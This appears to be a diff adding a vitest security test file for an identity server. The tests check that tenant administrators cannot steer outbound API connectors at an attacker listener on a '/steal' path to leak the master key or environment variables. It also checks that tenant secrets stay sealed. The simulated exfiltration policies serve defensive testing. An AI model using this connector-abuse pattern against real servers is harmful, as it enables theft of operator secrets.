@@ -1,0 +1,121 @@
+import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createApp, requireApp } from '../../src/provision.js';
+import { ADMIN_API_URI } from '../../src/services/admin-api.js';
+import { Agent, pkce, signInViaPages } from '../helpers/browserless.js';
+import { waitForPolicy } from '../helpers/policies.js';
+import { startServer, type TestServer } from '../helpers/server.js';
+
+/**
+ * A tenant's administrator reaches its own tenant and nothing more. Each test is written as the attack
+ * it stops, with an Admin.ReadWrite.All daemon of the tenant and a listener that records what reaches
+ * it (the attacker's server).
+ */
+const MASTER_KEY = 'tenants-apart-master-key-0123456789abcdef';
+let s: TestServer;
+let admin = '';
+let native = '';
+let listener: Server;
+let listenerUrl = '';
+const received: { path: string; headers: IncomingHttpHeaders; body: string }[] = [];
+const CB = 'http://127.0.0.1:9/cb';
+
+async function adminToken(server: TestServer, role: string): Promise<string> {
+  const { app, clientSecret } = await createApp(server.provision, server.tenant, { name: `ops-${role}`, type: 'daemon' });
+  await server.deps.store.addGrant({ clientId: app.clientId, apiClientId: (await requireApp(server.provision, server.tenant, ADMIN_API_URI)).clientId, kind: 'role', name: role });
+  const res = await fetch(`${server.baseUrl}/demo/B2C_1_signin/oauth2/v2.0/token`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Basic ${Buffer.from(`${app.clientId}:${clientSecret!}`).toString('base64')}` },
+    body: new URLSearchParams({ grant_type: 'client_credentials', scope: `${ADMIN_API_URI}/.default` }),
+  });
+  return ((await res.json()) as { access_token: string }).access_token;
+}
+
+function adminCall(method: string, path: string, body?: unknown): Promise<Response> {
+  return fetch(`${s.baseUrl}/admin/v1/tenants/demo${path}`, {
+    method,
+    headers: { authorization: `Bearer ${admin}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+}
+
+/** A signIn policy whose before-token connector calls the attacker's listener with `auth`. */
+function connectorPolicy(id: string, auth: Record<string, unknown>): Record<string, unknown> {
+  return { id, kind: 'signIn', apiConnectors: { preTokenIssuance: { url: `${listenerUrl}/steal`, auth, timeoutSeconds: 5 } } };
+}
+
+/** Signs Ann in through a policy (no browser needed) and returns where the browser ended up. */
+async function signInThrough(policy: string): Promise<URL> {
+  const { challenge } = pkce();
+  const url = `${s.baseUrl}/demo/${policy}/oauth2/v2.0/authorize?${new URLSearchParams({ client_id: native, redirect_uri: CB, response_type: 'code', scope: 'openid', code_challenge: challenge, code_challenge_method: 'S256' })}`;
+  return signInViaPages(new Agent(), s.baseUrl, url, 'ann@example.com', 'ann-password-1');
+}
+
+beforeAll(async () => {
+  listener = createServer((req, res) => {
+    const chunks: Buffer[] = [];
+    req.on('data', (c: Buffer) => chunks.push(c));
+    req.on('end', () => {
+      received.push({ path: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ version: '1.0.0', action: 'Continue' }));
+    });
+  });
+  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
+  listenerUrl = `http://127.0.0.1:${(listener.address() as { port: number }).port}`;
+  s = await startServer({ env: { LATCHKEY_MASTER_KEY: MASTER_KEY, LATCHKEY_OUTBOUND_ALLOW: '127.0.0.1' } });
+  admin = await adminToken(s, 'Admin.ReadWrite.All');
+  native = (await s.createApp({ name: 'native', type: 'native', redirectUris: [CB] })).app.clientId;
+  await s.createUser('ann@example.com', 'ann-password-1');
+});
+
+afterAll(async () => {
+  await s?.close();
+  await new Promise((r) => listener?.close(r));
+});
+
+describe('server secrets stay the operator\'s', () => {
+  it('refuses a policy written through the admin API that names an environment variable, and never sends the master key anywhere', async () => {
+    for (const env of ['LATCHKEY_MASTER_KEY', 'HOME']) {
+      const res = await adminCall('PUT', '/policies/B2C_1_steal', connectorPolicy('B2C_1_steal', { type: 'bearer', token: { env } }));
+      expect(res.status).toBe(400);
+      const body = (await res.json()) as { problems: { path: string; message: string }[] };
+      expect(body.problems[0]).toMatchObject({ path: '$.apiConnectors.preTokenIssuance.auth.token' });
+      expect(body.problems[0]!.message).toContain('tenant secret');
+    }
+    // The operator cannot name Latchkey's own settings either: such a file never loads.
+    writeFileSync(join(s.dir, 'policies', 'demo', 'B2C_1_opsteal.json'), JSON.stringify(connectorPolicy('B2C_1_opsteal', { type: 'bearer', token: { env: 'LATCHKEY_MASTER_KEY' } })));
+    await expect.poll(() => s.logs.some((l) => String(l.msg).includes('B2C_1_opsteal') && String(l.reason).includes('LATCHKEY_*'))).toBe(true);
+    expect((await fetch(`${s.baseUrl}/demo/B2C_1_opsteal/v2.0/.well-known/openid-configuration`)).status).toBe(404);
+    expect((await fetch(`${s.baseUrl}/demo/B2C_1_steal/v2.0/.well-known/openid-configuration`)).status).toBe(404);
+    // Signing in through the policies that exist sends nothing to the listener, and nothing anywhere holds the key.
+    await signInThrough('B2C_1_signin');
+    expect(received.filter((r) => JSON.stringify(r).includes(MASTER_KEY))).toEqual([]);
+  });
+
+  it('lets the administrator configure a connector with a tenant secret, which is written but never read back', async () => {
+    expect((await adminCall('PUT', '/policies/B2C_1_tsecret', connectorPolicy('B2C_1_tsecret', { type: 'bearer', token: { secret: 'loyalty-api' } }))).status).toBe(400);
+    let res = await adminCall('PUT', '/secrets/loyalty-api', { value: 'tok-7f3a9' });
+    expect(res.status).toBe(200);
+    expect(JSON.stringify(await res.json())).not.toContain('tok-7f3a9');
+    res = await adminCall('GET', '/secrets');
+    const listed = (await res.json()) as { secrets: { name: string }[] };
+    expect(listed.secrets.map((x) => x.name)).toEqual(['loyalty-api']);
+    expect(JSON.stringify(listed)).not.toContain('tok-7f3a9');
+    // Sealed at rest under the master key.
+    expect(JSON.stringify(s.db.prepare('SELECT * FROM tenant_secrets').all())).not.toContain('tok-7f3a9');
+
+    expect((await adminCall('PUT', '/policies/B2C_1_tsecret', connectorPolicy('B2C_1_tsecret', { type: 'bearer', token: { secret: 'loyalty-api' } }))).status).toBe(200);
+    await waitForPolicy(s, 'B2C_1_tsecret');
+    const before = received.length;
+    const back = await signInThrough('B2C_1_tsecret');
+    expect(back.searchParams.get('code')).toBeTruthy();
+    expect(received.slice(before).map((r) => r.headers.authorization)).toEqual(['Bearer tok-7f3a9']);
+
+    expect((await adminCall('DELETE', '/secrets/loyalty-api')).status).toBe(200);
+    expect((await adminCall('DELETE', '/secrets/loyalty-api')).status).toBe(404);
+    const audit = await s.deps.store.listAuditEvents({ tenantId: s.tenant.id });
+    expect(audit.filter((e) => e.event.startsWith('tenant_secret_')).map((e) => e.event)).toEqual(['tenant_secret_removed', 'tenant_secret_set']);
+  });
+});
